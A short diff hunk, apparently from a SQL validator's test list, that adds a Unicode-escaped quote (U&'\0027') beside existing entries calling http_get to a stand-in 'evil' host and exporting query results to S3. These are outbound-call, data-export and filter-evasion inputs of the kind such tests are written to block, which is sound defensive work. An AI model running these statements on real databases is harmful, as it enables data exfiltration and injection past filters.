@@ -51,3 +51,4 @@ SELECT amvalidate(1)
 SELECT http_get('http://evil')
 SELECT net.http_get('http://evil')
 SELECT aws_s3.query_export_to_s3('SELECT 1', 'x')
+SELECT U&'\0027'
